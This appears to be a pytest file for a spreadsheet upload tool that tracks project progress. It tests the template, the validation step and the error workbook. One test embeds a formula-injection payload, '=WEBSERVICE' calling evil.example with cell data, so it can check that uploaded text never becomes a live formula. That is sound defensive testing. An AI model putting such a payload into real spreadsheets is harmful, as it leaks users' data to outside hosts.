"""The template people fill and the error workbook they get back."""

import io
from datetime import date

import openpyxl
from sqlalchemy import Engine
from sqlmodel import Session

from core import db
from core.uploads.progress import NEW, validate_progress
from core.uploads.progress_workbooks import error_workbook, progress_template
from tests.plan_builder import PlanBuilder
from tests.sheets import save

TODAY = date(2026, 11, 15)


def small_plan(engine: Engine) -> list[str]:
    with db.transaction(engine) as session:
        plan = PlanBuilder(session)
        project = plan.project(plan.program(plan.line()), start=date(2026, 1, 1))
        done = plan.commitment(project, actors=(plan.actor(),))
        plan.report(done, date(2026, 6, 30), pct=100)
        return [plan.commitment(project, actors=(plan.actor(),), target=10).code for _ in range(2)]


def test_the_template_lists_open_commitments_with_validation_and_instructions(engine: Engine) -> None:
    open_codes = small_plan(engine)
    with Session(engine) as session:
        book = openpyxl.load_workbook(io.BytesIO(progress_template(session=session, on=TODAY)))
    sheet = book["Avances"]
    assert [row[0].value for row in sheet.iter_rows(min_row=2) if row[0].value] == open_codes  # the done one is out
    assert sheet.freeze_panes == "B2"
    assert {v.type for v in sheet.data_validations.dataValidation} == {"date", "decimal"}
    assert "dd/mm/aaaa" in " ".join(str(c.value) for c in book["Instrucciones"]["A"])


def test_a_filled_template_uploads_as_is(engine: Engine) -> None:
    codes = small_plan(engine)
    with Session(engine) as session:
        book = openpyxl.load_workbook(io.BytesIO(progress_template(session=session, on=TODAY)))
    sheet = book["Avances"]
    headers = [c.value for c in sheet[1]]
    sheet.cell(row=2, column=headers.index("Fecha de corte") + 1, value="31/10/2026")
    sheet.cell(row=2, column=headers.index("Valor logrado") + 1, value=5)
    with Session(engine) as session:
        checked = validate_progress(session=session, data=save(book), file_name="p.xlsx", today=TODAY)
    assert checked.problems == []
    assert list(checked.changes.commitment_code) == [codes[0]] and list(checked.changes.kind) == [NEW]
    assert list(checked.changes.new_progress) == [50.0]  # 5 of a target of 10
    assert any("1 filas sin llenar" in notice for notice in checked.notices)


def test_the_error_workbook_marks_each_offending_cell(engine: Engine) -> None:
    codes = small_plan(engine)
    data = save(_sheet([["Código compromiso", "Fecha de corte", "Avance físico (%)"], [codes[0], "31/02/2026", 50],
                        [codes[1], "31/10/2026", 0.5]]))  # fmt: skip
    with Session(engine) as session:
        checked = validate_progress(session=session, data=data, file_name="p.xlsx", today=TODAY)
    sheet = openpyxl.load_workbook(io.BytesIO(error_workbook(checked))).active
    assert sheet is not None
    assert [c.value for c in sheet[1]][:4] == ["Fila en su archivo", "Código compromiso", "Fecha de corte",
                                               "Avance físico (%)"]  # fmt: skip
    bad_date, fraction = sheet["C2"], sheet["D3"]
    assert bad_date.fill.fgColor.rgb.endswith("F8C9C4") and "no existe" in bad_date.comment.text
    assert fraction.fill.fgColor.rgb.endswith("FBE7B5") and "0,5 %" in fraction.comment.text


def _sheet(rows: list[list[object]]) -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    return book


def test_the_error_workbook_never_turns_uploaded_text_into_formulas(engine: Engine) -> None:
    codes = small_plan(engine)
    hostile = '=WEBSERVICE("http://evil.example/?"&A2)'
    csv = f"Código compromiso;Fecha de corte;Avance físico (%);{hostile}\n{codes[0]};x;5;{hostile}\n"
    with Session(engine) as session:
        checked = validate_progress(session=session, data=csv.encode(), file_name="p.csv", today=TODAY)
    sheet = openpyxl.load_workbook(io.BytesIO(error_workbook(checked))).active
    assert sheet is not None
    assert [(c.value, c.data_type) for c in (sheet["E1"], sheet["E2"])] == [(hostile, "s"), (hostile, "s")]
